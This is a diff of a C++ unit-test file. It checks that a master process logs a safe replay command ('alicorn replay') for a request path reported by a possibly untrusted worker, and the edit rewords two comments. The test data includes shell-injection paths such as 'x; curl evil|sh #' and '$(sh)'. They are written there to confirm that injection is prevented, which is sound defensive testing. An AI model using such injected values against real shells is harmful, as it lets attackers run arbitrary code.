@@ -14,7 +14,7 @@ using ::testing::AllOf;
 using ::testing::HasSubstr;
 using ::testing::Not;
 
-/// What the master says where the worker claims to have kept a request as this.
+/// What the master says if the worker claims to have kept a request under this name.
 std::string said_of(std::string_view path) {
   Config config;
   config.worker.app_path = "/srv/app.so";
@@ -31,7 +31,7 @@ TEST(KeptRequest, IsNamedWithTheCommandThatRunsItAgain) {
                                "; run it again, alone: alicorn replay " + path + " /srv/app.so");
 }
 
-/// The memory is the worker's: an operator is to paste what stands in the log.
+/// The worker can write anything into this memory, and an operator pastes what the log says.
 TEST(KeptRequest, IsNoCommandOfTheWorkers) {
   for (const std::string path :
        {"x; curl evil|sh #", "/var/crashes/a;sh", "/var/crashes/$(sh)", "/var/crashes/a b",
